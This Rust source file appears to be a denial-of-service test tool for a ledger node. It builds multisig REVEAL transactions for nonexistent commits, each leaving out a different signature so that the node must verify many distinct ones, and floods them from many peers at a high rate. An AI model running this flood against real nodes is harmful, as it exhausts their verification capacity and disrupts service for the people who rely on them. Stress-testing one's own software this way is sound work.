//! REVEALs of commits that do not exist: free to make, and dear to check for whoever looks at signatures first.
//!
//! Each has seven signatures of an eight-key policy, so that eight signatures make eight different transactions.

use std::time::{Duration, Instant};

use anyhow::Result;
use ledger::{
    hash::PolicyHash,
    key::{Policy, SecretKey, Witness, sighash},
    name::Name,
    record::Records,
    testing::{TestChain, build::Maker, key, name},
    transaction::{Body, Transaction, txid},
};
use libp2p::Multiaddr;
use serde_json::{Value, json};
use tokio::task::{JoinSet, spawn_blocking};
use tokio::time::{MissedTickBehavior, interval};

use crate::{answers, follower::Follower, forge::Forge, peer::Peer};

/// Keys of the policy.
const KEYS: usize = 8;
/// Threads that sign.
const SIGNERS: usize = 2;
/// Messages are said in bursts this far apart.
const BURST: Duration = Duration::from_millis(50);

/// Which node, and how fast.
#[derive(clap::Args)]
pub struct Options {
    /// The node.
    #[arg(long)]
    node: Multiaddr,
    /// Peers that share the flood: a node takes 200 messages a second from each.
    #[arg(long, default_value_t = 25)]
    peers: usize,
    /// Transactions a second, all peers together.
    #[arg(long, default_value_t = 5_000)]
    rate: usize,
    /// How long.
    #[arg(long, default_value_t = 10)]
    seconds: usize,
}

/// Runs the attack.
pub async fn run(forge: Forge, options: Options) -> Result<Value> {
    let chain = Follower::start(forge, &options.node).await?.chain().clone();
    let transactions = sign_all(&chain, options.rate * options.seconds).await?;
    let mut peers = Vec::new();
    for _ in 0..options.peers {
        let mut peer = Peer::connect(forge.params, &options.node, answers::nothing(forge)).await?;
        peer.until_heard().await?;
        peers.push(peer);
    }
    println!("ready");
    let (began, per_peer) = (Instant::now(), options.rate.div_ceil(options.peers));
    let mut saying = JoinSet::new();
    for (peer, share) in peers.into_iter().zip(transactions.chunks(transactions.len().div_ceil(options.peers))) {
        saying.spawn(say(peer, share.to_vec(), per_peer, Duration::from_secs(options.seconds as u64)));
    }
    let said: usize = saying.join_all().await.into_iter().sum();
    let seconds = began.elapsed().as_secs_f64();
    Ok(json!({ "signed": transactions.len(), "said": said, "a_second": (said as f64 / seconds).round() }))
}

/// Says the transactions at a steady pace until they or the time are used up; how many it said.
async fn say(peer: Peer, transactions: Vec<Transaction>, a_second: usize, time: Duration) -> usize {
    let mut pace = interval(BURST);
    pace.set_missed_tick_behavior(MissedTickBehavior::Burst);
    let (began, mut said) = (Instant::now(), 0);
    let burst = (a_second * BURST.as_millis() as usize).div_ceil(1_000);
    for some in transactions.chunks(burst.max(1)) {
        pace.tick().await;
        for transaction in some {
            if began.elapsed() > time || peer.transaction(transaction).await.is_err() {
                return said;
            }
            said += 1;
        }
    }
    said
}

async fn sign_all(chain: &TestChain, count: usize) -> Result<Vec<Transaction>> {
    let maker = chain.maker_at(chain.height().saturating_sub(2));
    let bodies = count.div_ceil(KEYS);
    let mut signing = JoinSet::new();
    for signer in 0..SIGNERS {
        let numbers = (signer..bodies).step_by(SIGNERS);
        signing.spawn(spawn_blocking(move || numbers.flat_map(|number| reveals(maker, number)).collect::<Vec<_>>()));
    }
    let mut all = Vec::with_capacity(count);
    while let Some(some) = signing.join_next().await {
        all.extend(some??);
    }
    all.truncate(count);
    Ok(all)
}

/// Eight REVEALs of one name: the same meaning, each with another signature left out.
fn reveals(maker: Maker<'static>, number: usize) -> Vec<Transaction> {
    let secrets: Vec<SecretKey> = (0..KEYS as u64).map(|seed| key(7_000 + seed)).collect();
    let policy = Policy::new(KEYS as u8 - 1, secrets.iter().map(SecretKey::public).collect())
        .expect("eight different keys, seven of them needed");
    let body = reveal(name(&format!("no-such-commit-{number}")), policy.hash());
    let (height, hash) = maker.anchor_of(&body);
    let digest = sighash(&maker.chain_id, &hash, &txid(height, &body));
    let signatures: Vec<_> = policy
        .keys()
        .iter()
        .enumerate()
        .filter_map(|(index, public)| {
            let secret = secrets.iter().find(|secret| secret.public() == *public)?;
            Some((index as u8, secret.sign(&digest)))
        })
        .collect();
    (0..KEYS)
        .map(|left_out| {
            let seven = signatures.iter().filter(|(index, _)| usize::from(*index) != left_out).copied().collect();
            maker.assemble(body.clone(), None, Witness::new(policy.clone(), seven))
        })
        .collect()
}

fn reveal(name: Name, owner: PolicyHash) -> Body {
    let (salt, records) = ([7; 16], Records::empty());
    Body::Reveal { class: name.price_class(), name, salt, owner, operator: PolicyHash::ZERO, records }
}
